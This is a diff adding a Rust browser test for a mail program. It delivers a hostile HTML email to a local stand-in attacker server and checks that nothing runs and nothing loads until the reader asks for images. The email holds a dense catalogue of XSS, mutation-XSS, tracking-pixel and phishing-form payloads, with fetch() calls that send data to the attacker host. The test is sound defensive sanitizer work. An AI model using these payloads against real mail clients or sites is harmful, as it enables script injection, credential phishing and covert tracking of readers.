@@ -1,0 +1,190 @@
+//! What a stranger wrote runs nothing and tells nobody, until a person asks for its pictures.
+
+use std::io::{BufRead as _, BufReader, Write as _};
+use std::net::{SocketAddr, TcpListener, TcpStream};
+use std::sync::{Arc, Mutex};
+use std::thread::JoinHandle;
+use std::time::Duration;
+
+use crate::desk;
+use crate::support::browser::Browser;
+use crate::support::program::Program;
+
+/// A web server of the attacker, which writes down what it is asked for.
+struct Attacker {
+    address: SocketAddr,
+    asked: Arc<Mutex<Vec<String>>>,
+    thread: Option<JoinHandle<()>>,
+}
+
+/// One transparent pixel.
+const GIF: &[u8] =
+    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\
+\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;";
+
+impl Attacker {
+    fn start() -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let address = listener.local_addr().unwrap();
+        let asked = Arc::new(Mutex::new(Vec::new()));
+        let list = Arc::clone(&asked);
+        let thread = std::thread::spawn(move || {
+            for stream in listener.incoming().map_while(Result::ok) {
+                let mut line = String::new();
+                let limit = Some(Duration::from_secs(5));
+                stream.set_read_timeout(limit).unwrap();
+                // A browser may open a connection it then does not use.
+                let _ = BufReader::new(&stream).read_line(&mut line);
+                if line.starts_with("STOP") {
+                    return;
+                }
+                list.lock().unwrap().push(line.trim().to_owned());
+                let head = format!(
+                    "HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\nContent-Length: {}\r\n\
+                     Connection: close\r\n\r\n",
+                    GIF.len()
+                );
+                let mut stream = stream;
+                let _ = stream.write_all(head.as_bytes());
+                let _ = stream.write_all(GIF);
+            }
+        });
+        Self {
+            address,
+            asked,
+            thread: Some(thread),
+        }
+    }
+
+    fn asked(&self) -> Vec<String> {
+        self.asked.lock().unwrap().clone()
+    }
+}
+
+impl Drop for Attacker {
+    fn drop(&mut self) {
+        let limit = Duration::from_secs(5);
+        let mut stream = TcpStream::connect_timeout(&self.address, limit).unwrap();
+        stream.write_all(b"STOP\r\n").unwrap();
+        self.thread.take().unwrap().join().unwrap();
+    }
+}
+
+/// Every way to run or load something that mail readers have fallen for.
+fn letter(address: &str, to: &str) -> String {
+    let evil = format!("http://{address}");
+    let run = "top.document.title='taken over';parent.window.hacked=1;window.hacked=1";
+    format!(
+        r#"From: Mallory <mallory@attacker.example>
+To: {to}
+Subject: Invoice "><script>window.hacked=1</script>
+Message-ID: <hostile@attacker.example>
+MIME-Version: 1.0
+Content-Type: text/html; charset=utf-8
+
+<html><head><base href="{evil}/base/"><meta http-equiv="refresh" content="0;url={evil}/refresh">
+<link rel="stylesheet" href="{evil}/link.css"><style>@import "{evil}/import.css";
+body {{ background: url({evil}/style.png) }} #words::before {{ content: url({evil}/before.png) }}
+@font-face {{ font-family: f; src: url({evil}/font.woff) }} #words {{ font-family: f }}</style>
+<script src="{evil}/script.js"></script><script>{run};fetch('{evil}/fetch')</script></head>
+<body onload="{run}" background="{evil}/background.png"><p id="words">The words of Mallory</p>
+<img src="{evil}/picture.png" onerror="{run}"><img src=x onerror="{run};fetch('{evil}/error')">
+<img srcset="{evil}/set.png 1x" src="{evil}/second.png"><picture><source srcset="{evil}/source.png"></picture>
+<svg onload="{run}"><script>{run}</script><image href="{evil}/svg.png"/></svg>
+<math><mtext><table><mglyph><style><img src=x onerror="{run}"></style></mglyph></table></mtext></math>
+<iframe src="{evil}/frame"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe>
+<object data="{evil}/object"></object><embed src="{evil}/embed"><video src="{evil}/video" poster="{evil}/poster.png"></video>
+<audio src="{evil}/audio" autoplay></audio><input type="image" src="{evil}/input.png">
+<div style="background-image:url('{evil}/div.png');position:fixed;inset:0">over everything</div>
+<table background="{evil}/table.png"><tr><td background="{evil}/cell.png">cell</td></tr></table>
+<form action="{evil}/form"><input name="password"><button id="trap">Sign in again</button></form>
+<a id="link" href="javascript:{run}">a link</a> <a href="data:text/html,<script>{run}</script>">another</a>
+<details open ontoggle="{run}"><summary>more</summary></details>
+<p>&lt;script&gt;shown as text&lt;/script&gt;</p></body></html>
+"#
+    )
+    .replace('\n', "\r\n")
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn hostile_mail_runs_no_script_and_loads_nothing_until_pictures_are_asked_for() {
+    let attacker = Attacker::start();
+    let (program, simulator, demo) = Program::serve();
+    let raw = letter(&attacker.address.to_string(), &demo.support_address);
+    assert!(
+        simulator
+            .world()
+            .deliver(&demo.support_address, raw.as_bytes())
+    );
+    let browser = Browser::start().await;
+    desk::sign_in(&browser, &program).await;
+    desk::connect(&browser, &program).await;
+    browser.go(&program.url).await;
+    browser.click_with(desk::SUBJECT, "Invoice").await;
+    browser.enter_frame("iframe.mail").await;
+    browser.see_with("body", "The words of Mallory").await;
+    let left = browser
+        .all("script, iframe, object, embed, form, input, base, meta[http-equiv], link[href*='127.0.0.1'], a[href^='javascript'], a[href^='data']")
+        .await;
+    assert_eq!(left.len(), 0, "dangerous elements are left");
+    browser.leave_frame().await;
+    calm(&browser).await;
+    browser.picture("hostile/conversation").await;
+    assert_eq!(
+        attacker.asked(),
+        Vec::<String>::new(),
+        "it learnt that it was read"
+    );
+
+    // By its own address, without our page around it, it is as tame.
+    let conversation = browser.address().await;
+    let frame = browser.see("iframe.mail").await.attr("src").await.unwrap();
+    browser
+        .go(&format!("{}{}", program.url, frame.unwrap()))
+        .await;
+    browser.see_with("body", "The words of Mallory").await;
+    calm(&browser).await;
+    assert_eq!(
+        attacker.asked(),
+        Vec::<String>::new(),
+        "it learnt that it was read"
+    );
+
+    // Asked for, pictures come, and nothing else does.
+    browser.go(&conversation).await;
+    browser.enter_frame("iframe.mail").await;
+    browser.click_with("a", "Show images").await;
+    browser.see("img[src*='picture.png']").await;
+    browser.leave_frame().await;
+    calm(&browser).await;
+    let is_picture = |line: &&String| line.starts_with("GET /picture.png ");
+    for _ in 0..100 {
+        if attacker.asked().iter().any(|line| is_picture(&line)) {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    let asked = attacker.asked();
+    assert!(
+        asked.iter().any(|line| is_picture(&line)),
+        "the picture was asked for, but only this came: {asked:?}"
+    );
+    let others: Vec<_> = asked
+        .iter()
+        .filter(|line| !line.contains(".png "))
+        .collect();
+    assert!(others.is_empty(), "more than pictures came: {others:?}");
+    browser.picture("hostile/with-pictures").await;
+    browser.end().await;
+}
+
+/// No script of the mail has left a trace in the page.
+async fn calm(browser: &Browser) {
+    // Nothing tells that nothing will happen: what would run or load has this long to do it.
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    let traces = browser
+        .run("return [typeof window.hacked, document.title, ...Array.from({ length: frames.length }, (_, at) => typeof frames[at].hacked)].join(' ')")
+        .await;
+    assert!(!traces.as_str().unwrap().contains("number"), "{traces}");
+    assert!(!traces.as_str().unwrap().contains("taken over"), "{traces}");
+}
